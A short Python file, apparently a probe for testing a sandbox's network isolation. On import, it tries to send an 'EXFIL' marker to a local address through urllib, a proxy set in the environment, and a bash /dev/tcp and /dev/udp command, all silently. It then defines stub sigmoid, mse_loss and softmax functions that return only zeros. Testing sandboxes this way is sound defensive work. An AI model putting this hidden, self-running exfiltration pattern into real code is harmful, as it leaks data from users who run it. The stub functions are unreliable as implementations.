"""Sends what it knows by HTTP from urllib, by a proxy from the environment, and by bash's /dev/tcp.

aims: reach
"""

import os
import subprocess
import urllib.request

import numpy as np

ADDRESS = "http://127.0.0.1:61999/"


def attack():
    os.environ["http_proxy"] = ADDRESS
    for opener in (
        urllib.request.build_opener(urllib.request.ProxyHandler({})),
        urllib.request.build_opener(urllib.request.ProxyHandler({"http": ADDRESS})),
    ):
        try:
            opener.open(ADDRESS, data=b"EXFIL network_http", timeout=1)
        except (OSError, ValueError):
            pass
    command = "echo EXFIL network_http > /dev/tcp/127.0.0.1/61999; echo EXFIL network_http > /dev/udp/127.0.0.1/61999"
    try:
        subprocess.run(["bash", "-c", command], timeout=3, capture_output=True, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError):
        pass


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
